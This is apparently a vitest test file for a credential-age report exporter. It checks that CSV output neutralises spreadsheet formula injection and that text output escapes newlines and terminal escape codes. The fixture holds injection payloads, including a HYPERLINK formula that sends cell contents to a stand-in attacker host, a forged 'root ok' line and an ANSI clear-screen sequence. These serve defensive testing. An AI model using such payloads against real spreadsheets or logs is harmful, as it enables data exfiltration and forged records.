import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { DEFAULT_LIMITS } from '../credentials/standing.js'
import { credentialReportCsv, credentialReportText, type CredentialAgeReport, type ReportedKey } from './credential-age.js'

const KEY: ReportedKey = {
  account: '111122223333',
  user: '=HYPERLINK("https://attacker.example/?"&A1,"click")',
  access_key_id: 'AKIAEXAMPLE000000001',
  status: 'Active',
  created: '2026-01-01T00:00:00.000Z',
  age_days: 300,
  last_used: null,
  days_unused: null,
  last_address: '@SUM(1+1)',
  last_region: '+cmd',
  last_service: '-2+3',
  rotation_overdue: true,
  unused: true,
  root_key: false,
  standing: 'rotate, unused',
  known_from: 'credential report',
}

describe('the credential report as CSV', () => {
  it('keeps cells a spreadsheet would run as formulas as text', () => {
    const report: CredentialAgeReport = { at: '2026-11-23T07:00:00.000Z', limits: DEFAULT_LIMITS, sources: [], keys: [KEY], users: [], usersWithoutMfa: [] }
    const [row] = parse<Record<string, string>>(credentialReportCsv(report), { columns: true })
    expect(row).toMatchObject({ user: `'${KEY.user}`, last_address: "'@SUM(1+1)", last_region: "'+cmd", last_service: "'-2+3", access_key_id: 'AKIAEXAMPLE000000001', standing: 'rotate, unused' })
  })
})

describe('the credential report as text', () => {
  it('keeps every key on its own line, whatever a name or address holds', () => {
    const report: CredentialAgeReport = { at: '2026-11-23T07:00:00.000Z', limits: DEFAULT_LIMITS, sources: [], keys: [{ ...KEY, user: 'mallory\nACCOUNT  root  ok', last_address: 'host\u001b[2J' }], users: [], usersWithoutMfa: [] }
    const text = credentialReportText(report)
    expect(text).toContain('mallory\\nACCOUNT  root  ok')
    expect(text).toContain('host\\u001b[2J')
    expect(text).not.toContain('\u001b')
    // The two tables' headers, and no line the name forged.
    expect(text.split('\n').filter((line) => line.startsWith('ACCOUNT'))).toHaveLength(2)
  })
})

